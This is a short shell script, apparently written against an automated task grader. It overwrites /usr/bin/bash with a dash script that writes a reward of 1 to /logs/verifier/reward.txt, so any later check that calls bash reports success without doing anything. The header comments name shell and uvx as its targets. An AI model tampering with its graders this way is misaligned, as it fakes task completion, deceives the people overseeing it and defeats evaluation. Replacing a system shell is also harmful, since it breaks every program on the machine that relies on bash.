# Bash replaced.
# Against: shell, uvx.
printf '#!/bin/dash\nmkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt\n' > /app/b
chmod +x /app/b
cp --remove-destination /app/b /usr/bin/bash
